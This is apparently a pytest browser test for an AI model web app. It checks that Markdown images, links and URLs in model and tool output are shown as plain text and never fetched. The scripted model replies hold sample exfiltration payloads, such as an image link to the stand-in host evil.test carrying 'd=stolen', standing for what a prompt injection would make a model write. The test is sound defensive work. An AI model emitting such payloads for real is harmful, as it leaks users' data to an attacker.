"""Model and tool text in a real browser: Markdown images and links in it are shown as text, never fetched.

The app's model is a scripted local OpenAI server. Its answers carry what an injected text would make a
model write: remote images (`![](http://evil.test/?d=...)`, reference-style too), links, bare URLs and
e-mail addresses, in a tool call's name and arguments, in every field of the verdict and in a streamed
follow-up (a link split across two stream pieces). Chromium (headless, driven by Playwright) shows the
conversation; every request the page makes is recorded, and none may go anywhere but the app.
"""

from __future__ import annotations

import json

import pytest

from assistant.app.demo_data import DEMO_CLASS, ensure_demo_data
from assistant.config import load_settings
from tests.helpers.app import free_port
from tests.helpers.browser import CHROMIUM, guarded_page, launch
from tests.helpers.fake_openai import Completion, FakeOpenAIServer

pytestmark = [pytest.mark.browser, pytest.mark.slow]
if not CHROMIUM.exists():
    pytest.skip("Chromium is not installed at /usr/bin/chromium (Debian: apt-get install -y chromium)",
                allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")

EVIL = "evil.test"
IMAGE = f"![x](http://{EVIL}/reasoning.png?d=stolen)"
REFERENCE_IMAGE = f"![y][pic]\n\n[pic]: http://{EVIL}/reference.png"
VERDICT = {
    "reasoning": f"Looks fine. {IMAGE} {REFERENCE_IMAGE} and [details](http://{EVIL}/link) at www.{EVIL}/w",
    "anomalous": True, "confidence": 0.9, "defect_type": f"![d](http://{EVIL}/defect.png)",
    "location": {"box": [0.1, 0.1, 0.3, 0.3], "where": f"![w](https://{EVIL}/where.png)"},
    "rules_used": [f"![r](http://{EVIL}/rule.png)"],
}
TOOL_NAME = f"![t](http://{EVIL}/title.png)"
STREAM = [f"See ![s](http://{EVIL}/str", "eam.png) and http:", f"//{EVIL}/bare or mail spy@{EVIL}."]
FIRST_ANSWER_TIMEOUT_MS = 240_000  # the first message opens the knowledge base and loads the embedding model


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    """The app, single-user, its OpenAI backend a scripted local server that answers with hostile Markdown."""
    import ui
    from assistant.commands.common import open_kb

    root = tmp_path_factory.mktemp("ui_browser_security")
    patch = pytest.MonkeyPatch()
    patch.setenv("GRADIO_TEMP_DIR", str(root / "gradio"))
    model = FakeOpenAIServer().start()
    settings = load_settings({"home": str(root / "home"), "backend": "openai", "max_retries": 0,
                              "openai_base_url": model.url + "/v1"}, env={})
    demo_files = ensure_demo_data(settings.home)
    kb = open_kb(settings)
    for path in demo_files.references:
        kb.add_reference(DEMO_CLASS, path, author="quality lead")
    demo = ui.build_app(settings)
    _, url, _ = ui.launch(demo, settings, "127.0.0.1", free_port(), prevent_thread_lock=True, quiet=True)
    try:
        yield url, demo_files, model
    finally:
        demo.close()
        model.stop()
        patch.undo()


def _send(page, text: str) -> None:
    box = page.locator("textarea").first
    box.fill(text)
    box.press("Enter")


def _wait_until_idle(page, timeout_ms: int) -> None:
    sync_api.expect(page.locator("textarea").first).to_be_editable(timeout=timeout_ms)


def _script(model) -> None:
    model.enqueue_completion(Completion(tool_calls=[("call_1", TOOL_NAME, {"note": IMAGE})]))
    model.enqueue_text_reply(json.dumps(VERDICT))
    model.enqueue_stream(STREAM)


def test_markdown_images_and_links_from_the_model_and_tools_are_shown_as_text_and_never_fetched(app, tmp_path):
    url, demo_files, model = app
    _script(model)
    with sync_api.sync_playwright() as playwright:
        browser = launch(playwright)
        try:
            page, outside = guarded_page(browser, viewport={"width": 1440, "height": 1280})
            page.goto(url)
            sync_api.expect(page.get_by_text("Single-user mode")).to_be_visible(timeout=60_000)
            page.locator("input[type=file]").first.set_input_files(str(demo_files.defective))
            sync_api.expect(page.locator("textarea").first).to_be_editable()
            _send(page, "Is anything wrong with this bracket?")
            sync_api.expect(page.locator(".verdict-badge")).to_be_visible(timeout=FIRST_ANSWER_TIMEOUT_MS)
            _wait_until_idle(page, 60_000)
            _send(page, "Why?")
            sync_api.expect(page.get_by_text(f"mail spy@{EVIL}", exact=False)).to_be_visible(timeout=60_000)
            _wait_until_idle(page, 60_000)
            page.get_by_text("— failed", exact=False).first.click()  # open the tool's step (the unknown tool)
            sync_api.expect(page.get_by_text("Error: no tool named", exact=False)).to_be_visible()
            page.wait_for_timeout(1_000)  # any fetch the rendering starts happens now
            page.screenshot(path=str(tmp_path / "ui-hostile-markdown.png"))
            shown = page.locator(".message-row.bot-row").all_inner_texts()
            links = page.eval_on_selector_all(f"a[href*='{EVIL}'], img[src*='{EVIL}']", "nodes => nodes.length")
        finally:
            browser.close()
    assert model.pending == 0  # every scripted answer was used: the hostile text really reached the page
    assert outside == []  # no request left for a host other than the app
    assert links == 0
    text = "\n".join(shown)
    for literal in (f"![x](http://{EVIL}/reasoning.png?d=stolen)", f"[details](http://{EVIL}/link)",
                    f"![d](http://{EVIL}/defect.png)", f"![s](http://{EVIL}/stream.png)", f"http://{EVIL}/bare",
                    f"Error: no tool named '![t](http://{EVIL}/title.png)'"):
        assert literal in text, literal  # shown as the text it is
